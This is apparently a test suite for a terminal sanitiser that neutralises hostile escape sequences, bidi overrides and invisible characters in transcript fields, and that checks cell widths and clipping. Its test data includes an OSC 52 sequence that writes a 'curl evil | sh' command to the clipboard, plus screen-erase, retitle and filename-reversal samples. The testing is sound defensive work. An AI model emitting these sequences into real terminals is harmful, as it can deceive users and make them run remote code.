import { describe, expect, it } from 'vitest';
import { paint } from './cli/color.js';
import {
  clip,
  MARK,
  NEWLINE_MARK,
  printable,
  safeLine,
  safeText,
  terminalJson,
  width,
} from './terminal-text.js';

/** The sequences found in hostile transcripts, each as a terminal would receive it. */
const OSC52 = '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007'; // writes `curl evil | sh` to the clipboard
const OSC0 = '\u001b]0;pwned\u001b\\'; // retitles the window, ended by ST
const CSI = '\u001b[2J'; // erases the screen
const C1_CSI = '\u009b2J';
const C1_OSC = '\u009d0;pwned\u009c';
const RLO = '\u202e';

/** Anything a terminal acts on or hides, once cctop's own colours are set aside. */
const ACTIVE =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b\u200e\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]/;

describe('a field from a transcript', () => {
  it('shows each escape sequence as one mark, never its payload', () => {
    expect(safeLine(`/w/${OSC52}x`)).toBe(`/w/${MARK}x`);
    expect(safeLine(`a${OSC0}b`)).toBe(`a${MARK}b`);
    expect(safeLine(`a${CSI}b`)).toBe(`a${MARK}b`);
    expect(safeLine('a\u001b[38;5;196mb')).toBe(`a${MARK}b`);
    expect(safeLine('a\u001bP1$r0m\u001b\\b')).toBe(`a${MARK}b`); // DCS
    expect(safeLine('a\u001b_Gf=100;AAAA\u001b\\b')).toBe(`a${MARK}b`); // APC (kitty graphics)
    expect(safeLine('a\u001b^pm\u001b\\b\u001bXsos\u001b\\c')).toBe(`a${MARK}b${MARK}c`); // PM, SOS
    expect(safeLine('a\u001bcb')).toBe(`a${MARK}b`); // a two-byte escape: reset the terminal
    expect(safeLine('a\u001b(0b')).toBe(`a${MARK}b`); // with an intermediate byte: line-drawing charset
    expect(safeLine('a\u001b')).toBe(`a${MARK}`);
  });

  it('shows 8-bit CSI and OSC, and every other C1 control, as marks', () => {
    expect(safeLine(`a${C1_CSI}b`)).toBe(`a${MARK}b`);
    expect(safeLine(`a${C1_OSC}b`)).toBe(`a${MARK}b`);
    expect(safeLine('a\u0090q\u009cb')).toBe(`a${MARK}b`); // 8-bit DCS up to 8-bit ST
    expect(safeLine('a\u0085b\u0080c\u009fd')).toBe(`a${MARK}b${MARK}c${MARK}`);
  });

  it('ends a string sequence where a terminal would: BEL, ST, CAN or SUB, a new ESC, or the end', () => {
    expect(safeLine('a\u001b]0;x\u0018b')).toBe(`a${MARK}b`);
    expect(safeLine('a\u001b]0;x\u001a b')).toBe(`a${MARK} b`);
    // An ESC that does not start ST aborts the string and starts a sequence of its own.
    expect(safeLine('a\u001b]0;x\u001b[31mb')).toBe(`a${MARK}${MARK}b`);
    // With no end at all, the rest is the sequence's payload, and none of it shows.
    expect(safeLine('a\u001b]52;c;Y3VybCBldmlsIHwgc2g=')).toBe(`a${MARK}`);
  });

  it('shows C0 controls and DEL as marks', () => {
    expect(safeLine('a\u0000b\u0007c\u0008d\u000de\u007ff')).toBe(
      `a${MARK}b${MARK}c${MARK}d${MARK}e${MARK}f`,
    );
  });

  it('in a one-line place shows a newline as ⏎ and a tab as a space; in a body keeps both', () => {
    expect(safeLine('one\ntwo\r\nthree\tfour')).toBe(`one${NEWLINE_MARK}two${NEWLINE_MARK}three four`);
    expect(safeText('one\ntwo\r\nthree\tfour\rfive')).toBe(`one\ntwo\nthree\tfour${MARK}five`);
  });

  it('shows bidi controls as marks, so a name cannot read backwards', () => {
    for (const c of [
      '\u202a',
      '\u202b',
      '\u202c',
      '\u202d',
      RLO,
      '\u2066',
      '\u2067',
      '\u2068',
      '\u2069',
      '\u200e',
      '\u200f',
      '\u061c',
    ])
      expect(safeLine(`exe${c}txt.sh`), c.codePointAt(0)!.toString(16)).toBe(`exe${MARK}txt.sh`);
  });

  it('shows invisible format characters as marks: zero-width space, word joiner, BOM, tags, separators', () => {
    for (const c of ['\u200b', '\u2060', '\ufeff', '\u00ad', '\u{e0001}', '\u{e0041}', '\u2028', '\u2029'])
      expect(safeLine(`a${c}b`), c.codePointAt(0)!.toString(16)).toBe(`a${MARK}b`);
    expect(safeLine('a\ud800b')).toBe(`a${MARK}b`); // a lone surrogate
  });

  it('keeps what real text needs: joiners, variation selectors, combining marks, wide scripts', () => {
    for (const text of [
      '👩‍💻 fixed it', // ZWJ sequence
      '👨‍👩‍👧',
      '❤️ and ☺︎', // emoji and text presentation selectors
      'می‌خواهم', // Persian with a zero-width non-joiner
      '葛󠄀城', // an ideographic variation selector (U+E0100)
      'café', // a combining acute accent
      '漢字とかな、한국어',
      'tab\there',
    ])
      expect(safeText(text)).toBe(text);
  });

  it('passes plain text through as the same string', () => {
    const s = '/home/u/src/project · fix the parser (main)';
    expect(safeLine(s)).toBe(s);
  });
});

describe('a finished line', () => {
  const colour = paint(true, {});
  const none = paint(false, {});

  it('keeps every colour cctop paints when colour is on, and none when it is off', () => {
    for (const style of [colour.green, colour.amber, colour.red, colour.dim, colour.bold]) {
      const line = style('x');
      expect(printable(line, colour)).toBe(line);
      expect(printable(line, none)).toBe(`${MARK}x${MARK}`);
    }
    // The live table's selected row, in inverse video.
    expect(printable('\u001b[7mrow\u001b[27m', colour)).toBe('\u001b[7mrow\u001b[27m');
  });

  it('marks any other escape sequence even with colour on, including concealed text', () => {
    expect(printable(`a\u001b[8mhidden\u001b[0m${OSC52}`, colour)).toBe(`a${MARK}hidden\u001b[0m${MARK}`);
    expect(printable(`x${C1_CSI}${RLO}`, colour)).toBe(`x${MARK}${MARK}`);
  });

  it('keeps the newlines and tabs of several lines', () => {
    expect(printable('a\n\tb', none)).toBe('a\n\tb');
  });
});

describe('cells', () => {
  it('counts a wide character as two cells and a joiner, a selector or a combining mark as none', () => {
    expect(width('漢字')).toBe(4);
    expect(width('한국')).toBe(4);
    expect(width('café')).toBe(4);
    expect(width('👩‍💻')).toBe(4); // two wide emoji; terminals that join them draw fewer, never more
    expect(width('a\ufe0fb')).toBe(2);
  });

  it('counts after sanitising: an escape sequence is the one cell of its mark', () => {
    expect(width(`a${OSC52}b`)).toBe(3);
    expect(width(`a${C1_OSC}b`)).toBe(3);
    expect(width('\u001b[1mbold\u001b[22m')).toBe(4);
  });

  it('a cut never leaves a sequence open, at any width', () => {
    const hostile = `ab${OSC52}cd${CSI}漢${C1_CSI}e${C1_OSC}f${RLO}g${OSC0}h\u001b]0;unterminated`;
    for (let cells = 0; cells <= width(hostile) + 1; cells++) {
      const cut = clip(hostile, cells);
      expect(cut, `at ${cells}`).not.toMatch(ACTIVE);
      expect(width(cut), `at ${cells}`).toBeLessThanOrEqual(cells);
    }
  });

  it('a cut counts the cells the text will take after sanitising', () => {
    // The payload is neither counted nor shown: the mark is one cell.
    expect(clip(`${OSC52}ab`, 3)).toBe(`${MARK}ab`);
    expect(clip(`${OSC52}abc`, 3)).toBe(`${MARK}a…`);
    expect(clip('漢字かな', 5)).toBe('漢字…');
    expect(clip('漢字かな', 4)).toBe('漢…');
  });

  it('a cut keeps cctop’s colours whole and resets them after the cut', () => {
    const c = paint(true, {});
    const cut = clip(c.green('abcdefgh'), 4);
    expect(cut).toBe('\u001b[32mabc…\u001b[0m');
  });

  it('a cut does not end on a joiner waiting for what it joined', () => {
    expect(clip('ab👩‍💻', 4)).toBe('ab…');
  });

  it('measures, cuts and passes every character alike whether or not it takes the short way', () => {
    // A leading joiner (no cell, never scrubbed, never part of a sequence) sends the text the careful
    // way; alone, a character takes the short way when it is one the tables mostly print.
    for (let cp = 0; cp <= 0xffff; cp++) {
      if (cp >= 0xd800 && cp <= 0xdfff) continue;
      const c = String.fromCharCode(cp);
      const run = c.repeat(5);
      const at = `U+${cp.toString(16).padStart(4, '0')}`;
      expect(width(run), at).toBe(width(`\u200d${run}`));
      expect(clip(run, 3), at).toBe(clip(`\u200d${run}`, 3).slice(1));
      expect(safeLine(c), at).toBe(safeLine(`\u200d${c}`).slice(1));
    }
  });
});

describe('JSON for a terminal', () => {
  it('writes C1, bidi and format characters as escapes, and means the same', () => {
    const value = { cwd: `/w/${C1_OSC}${RLO}\u200b\u{e0041}`, model: `m${OSC52}`, kept: '👩‍💻 漢字' };
    const text = terminalJson(value);
    expect(text).not.toMatch(ACTIVE);
    expect(text).not.toMatch(/[\u{e0000}-\u{e007f}]/u);
    expect(JSON.parse(text)).toEqual(value);
    expect(text).toContain('👩\u200d💻 漢字');
  });
});
